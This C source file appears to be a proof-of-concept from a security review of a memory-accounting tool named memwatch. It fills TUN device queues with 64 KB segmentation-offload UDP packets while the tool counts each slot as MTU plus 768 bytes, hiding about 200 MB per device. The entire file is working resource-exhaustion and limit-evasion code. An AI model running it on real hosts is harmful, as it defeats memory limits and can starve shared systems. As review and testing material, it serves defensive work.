/* SPDX-License-Identifier: MIT */
/* tun (an attack, from a hostile review of 2026-12-07) with TUNs that take
 * segmentation offloads (IFF_VNET_HDR, TUNSETOFFLOAD): a UDP socket with
 * UDP_SEGMENT puts one 64 KB packet in each slot of such a TUN's queue,
 * where memwatch counted a slot as MTU + 768 bytes.  A small MTU first,
 * so that the txqueuelen allowed grows: 3206 slots of 65,024 bytes each,
 * about 200 MB a TUN, counted as 4 MB. */
#define _GNU_SOURCE
#include "good-tun.h"
#include <linux/udp.h>
#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif
#ifndef TUN_F_USO4
#define TUN_F_USO4 0x20
#define TUN_F_USO6 0x40
#endif
#define NTUN 3
#define MTU 540
#define QLEN (4194304 / (MTU + 768))	/* memwatch's cap, counted by the MTU */

/* As "ip link set NAME mtu MTU" does it. */
static void set_mtu(const char *name, int mtu)
{
	struct ifreq ifr = { .ifr_mtu = mtu };
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	strncpy(ifr.ifr_name, name, IFNAMSIZ - 1);
	ioctl(s, SIOCSIFMTU, &ifr);
	close(s);
}

static int gso_tun(int k)
{
	char name[IFNAMSIZ], addr[32];
	int fd;

	snprintf(name, sizeof name, "gso%d", k);
	snprintf(addr, sizeof addr, "10.%d.0.1", 200 + k);
	fd = make_tun_named(name, addr, IFF_VNET_HDR);
	if (fd < 0 || ioctl(fd, TUNSETOFFLOAD, TUN_F_CSUM | TUN_F_TSO4 | TUN_F_TSO6 |
					      TUN_F_USO4 | TUN_F_USO6) == -1) {
		perror("gso tun");
		return -1;
	}
	set_mtu(name, MTU);
	set_txqueuelen(name, QLEN);
	return fd;
}

int main(void)
{
	static char data[65507];
	static struct iovec iov = { data, 0 };
	static struct mmsghdr m[1024];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int k, i, s, tun0, segment = MTU - 28;
	long sent = 0;

	tun0 = make_tun_named("tun0", "10.1.3.1", 0);
	iov.iov_len = (size_t)(65507 / segment * segment);
	for (k = 0; k < NTUN && gso_tun(k) >= 0; k++) {
		char addr[32];

		s = socket(AF_INET, SOCK_DGRAM, 0);
		setsockopt(s, IPPROTO_UDP, UDP_SEGMENT, &segment, sizeof segment);
		snprintf(addr, sizeof addr, "10.%d.0.2", 200 + k);
		inet_pton(AF_INET, addr, &to.sin_addr);
		for (i = 0; i < 1024; i++) {
			m[i].msg_hdr.msg_name = &to;
			m[i].msg_hdr.msg_namelen = sizeof to;
			m[i].msg_hdr.msg_iov = &iov;
			m[i].msg_hdr.msg_iovlen = 1;
		}
		for (i = 0; i < 4; i++) {
			int n = sendmmsg(s, m, 1024, 0);

			if (n > 0)
				sent += n;
		}
		close(s);
	}
	printf("gso: %d TUNs of txqueuelen %d, MTU %d; %ld datagrams of %zu bytes sent\n",
	       k, QLEN, MTU, sent, iov.iov_len);
	fflush(stdout);
	good_loop(tun0);
}
